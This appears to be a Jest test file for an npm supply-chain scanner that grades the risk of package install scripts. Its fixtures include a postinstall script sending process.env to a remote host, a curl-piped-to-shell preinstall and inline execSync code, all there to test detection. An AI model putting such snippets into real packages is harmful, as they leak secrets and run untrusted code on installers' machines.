import { commandIdentity, installScriptFacts, scriptFiles } from '../../../src/checks/code/install-scripts.js';
import { analyzeSource } from '../../../src/checks/code/source-facts.js';
import type { Fact, SourceType } from '../../../src/model/types.js';
import { packageFrom } from '../../helpers/package-from.js';

function run(files: Record<string, string>, source: SourceType = 'registry'): Fact[] {
  const pkg = packageFrom(files);
  const manifest = JSON.parse(files['package.json'] ?? 'null') as Record<string, unknown> | null;
  return installScriptFacts(manifest, pkg.files, source, (path) => analyzeSource(path, files[path] ?? ''));
}
const manifest = (scripts: Record<string, string>, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'p', version: '1.0.0', scripts, ...extra }, null, 2);

test('a postinstall running a package file says what that file does; harvesting + network is critical', () => {
  const [fact, ...rest] = run({
    'package.json': manifest({ test: 'jest', postinstall: 'node ./scripts/setup.js' }),
    'scripts/setup.js': "const https = require('https'); https.request({ hostname: 'x' }).end(JSON.stringify(process.env));",
  });
  expect(rest).toEqual([]);
  expect(fact).toMatchObject({
    key: 'install-script:postinstall:node ./scripts/setup.js',
    kind: 'install-script',
    severity: 'critical',
    file: 'package.json',
    line: 6,
    evidence: '"postinstall": "node ./scripts/setup.js"',
  });
  expect(fact!.detail).toBe(
    'The `postinstall` script runs `node ./scripts/setup.js` on every install of this package; scripts/setup.js makes network calls (`https`) and collects environment variables.',
  );
});

test('a script file that only builds is high, not critical', () => {
  const [fact] = run({ 'package.json': manifest({ install: 'node build.js' }), 'build.js': "require('fs').writeFileSync('out.txt', 'ok');" });
  expect(fact).toMatchObject({ severity: 'high', key: 'install-script:install:node build.js' });
  expect(fact!.detail).toContain('before any of its code is imported');
});

test('inline node -e code is analyzed; curl piped to a shell is critical', () => {
  const [inline] = run({ 'package.json': manifest({ preinstall: `node -e "require('child_process').execSync('id')"` }) });
  expect(inline!.detail).toContain('its inline code runs other programs');
  const [piped] = run({ 'package.json': manifest({ preinstall: 'curl -fsSL https://get.tool.dev/i.sh | sh' }) });
  expect(piped).toMatchObject({ severity: 'critical' });
  expect(piped!.detail).toContain('downloads code and runs it');
});

test('prepare runs only for non-registry sources; other scripts never count', () => {
  const files = { 'package.json': manifest({ prepare: 'node build.js', test: 'node test.js', prepublishOnly: 'tsc' }), 'build.js': '' };
  expect(run(files, 'registry')).toEqual([]);
  expect(run(files, 'git').map((f) => f.key)).toEqual(['install-script:prepare:node build.js']);
});

test('binding.gyp means an implicit node-gyp rebuild, unless an install script or gypfile:false says otherwise', () => {
  const implicit = run({ 'package.json': manifest({}), 'binding.gyp': '{}' });
  expect(implicit).toEqual([expect.objectContaining({ key: 'install-script:install:node-gyp rebuild', severity: 'medium', file: 'binding.gyp' })]);
  expect(run({ 'package.json': manifest({ install: 'prebuild-install || node-gyp rebuild' }), 'binding.gyp': '{}' }).map((f) => f.key)).toEqual([
    'install-script:install:prebuild-install || node-gyp rebuild',
  ]);
  expect(run({ 'package.json': manifest({}, { gypfile: false }), 'binding.gyp': '{}' })).toEqual([]);
  expect(run({ 'package.json': manifest({}), 'src/binding.gyp': '{}' })).toEqual([]);
});

test('the key holds the script text, so a changed script is a different fact', () => {
  const a = run({ 'package.json': manifest({ postinstall: 'node a.js' }), 'a.js': '' })[0]!;
  const b = run({ 'package.json': manifest({ postinstall: 'node  a.js --quiet' }), 'a.js': '' })[0]!;
  expect(a.key).not.toBe(b.key);
  expect(b.key).toBe('install-script:postinstall:node a.js --quiet');
});

test('scriptFiles resolves the files commands run', () => {
  const { files } = packageFrom({ 'install.js': '', 'scripts/run.sh': '', 'lib/index.js': '', 'setup.bat': '' });
  expect(scriptFiles('node install', files)).toEqual(['install.js']);
  expect(scriptFiles('cross-env X=1 node --no-warnings ./lib && sh scripts/run.sh', files)).toEqual(['lib/index.js', 'scripts/run.sh']);
  expect(scriptFiles('start /B node install.js & setup.bat', files)).toEqual(['install.js', 'setup.bat']);
  expect(scriptFiles('node ../outside.js; node missing.js', files)).toEqual([]);
});

test('no manifest or no scripts: nothing', () => {
  expect(installScriptFacts(null, new Map(), 'registry', () => [])).toEqual([]);
  expect(run({ 'package.json': manifest({ build: 'tsc' }) })).toEqual([]);
});

describe('an install script is identified by its command, with the package\'s own version as a placeholder', () => {
  const identity = (command: string, version = '1.11.1', name = 'unrs-resolver') => commandIdentity(command, { name, version });

  test('the own version, standalone or after the own name, is a placeholder', () => {
    expect(identity('napi-postinstall unrs-resolver 1.11.1 check')).toBe('napi-postinstall unrs-resolver {version} check');
    expect(identity('node install.js --version=v1.11.1')).toBe('node install.js --version={version}');
    expect(identity('npx unrs-resolver@1.11.1 setup')).toBe('npx unrs-resolver@{version} setup');
  });

  test("another package's version, a longer version and a version inside a word stay as they are", () => {
    expect(identity('npx tool@1.11.1 run')).toBe('npx tool@1.11.1 run');
    expect(identity('node x.js 1.11.10 21.11.1 1.11.1-beta')).toBe('node x.js 1.11.10 21.11.1 1.11.1-beta');
    expect(identity('node x.js 1.0.0', 'latest')).toBe('node x.js 1.0.0');
  });
});
